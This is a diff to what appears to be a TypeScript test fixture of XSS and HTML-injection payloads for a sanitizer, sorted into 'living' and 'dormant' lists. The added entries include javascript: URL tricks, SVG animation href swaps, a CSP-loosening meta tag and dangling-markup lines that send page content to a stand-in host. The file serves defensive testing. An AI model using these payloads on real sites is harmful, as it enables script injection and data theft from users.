@@ -81,6 +81,7 @@ export const living: ReadonlyArray<string> = [
   '<a href="j&Tab;a&NewLine;vascript&colon;alert&lpar;1&rpar;">x</a>',
   '<area href="javascript:alert(1)">',
   '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<form action="javascript:alert(1)"><input type=submit id=s hidden></form><label for=s>x</label>',
   '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
   '<isindex type=image src=1 onerror=alert(1)>',
   '<iframe src="javascript:parent.alert(1)"></iframe>',
@@ -98,6 +99,7 @@ export const living: ReadonlyArray<string> = [
   '<svg><script href="data:text/javascript,alert(1)"/></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
   '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
+  '<svg><set href=#l attributeName=href to=javascript:alert(1) /><a id=l><text y=20>x</text></a></svg>',
   '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
   '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
@@ -217,6 +219,10 @@ const dormant: ReadonlyArray<string> = [
   "<!--#exec cmd=\"echo '<script>alert(1)</script>'\"--><? echo('<script>alert(1)</script>'); ?>",
   // Names that stand in for the page's own, or move what the page has.
   '<a class="fixed inset-0" id=main href="/contact">x</a>',
+  '<base target="alert(1)"><a target="alert(1)" download=x.html href="/contact">x</a>',
+  '<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>',
+  '<form action="https://away.example/" target=x><button formtarget=y>x</button><textarea name=words>',
+  '<p>x</p><img src="https://away.example/?<p>what comes after an open quote</p>',
   '<img name=getElementById><form name=body><input name=attributes><input id=nodeName></form>',
   // Words that mean something to a framework.
   '<p dangerouslysetinnerhtml=\'{"__html":"<img src=x onerror=alert(1)>"}\'>x</p>',
